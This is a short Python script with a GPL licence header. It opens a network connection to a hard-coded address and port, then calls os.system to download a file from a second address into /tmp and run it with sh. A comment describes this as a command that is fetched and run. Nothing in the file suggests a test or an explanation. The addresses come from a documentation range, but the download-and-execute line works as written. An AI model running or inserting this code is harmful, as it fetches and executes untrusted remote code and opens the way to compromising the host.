#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
# A pair that is built in, and a command that is fetched and run.
import os, socket
SERVER = ("198.51.100.%d" % 95, 9443)
s = socket.create_connection(SERVER, timeout=10)
host = f"198.51.100.{96}"
os.system("wget -q -O /tmp/x http://{}/x && sh /tmp/x".format(host))
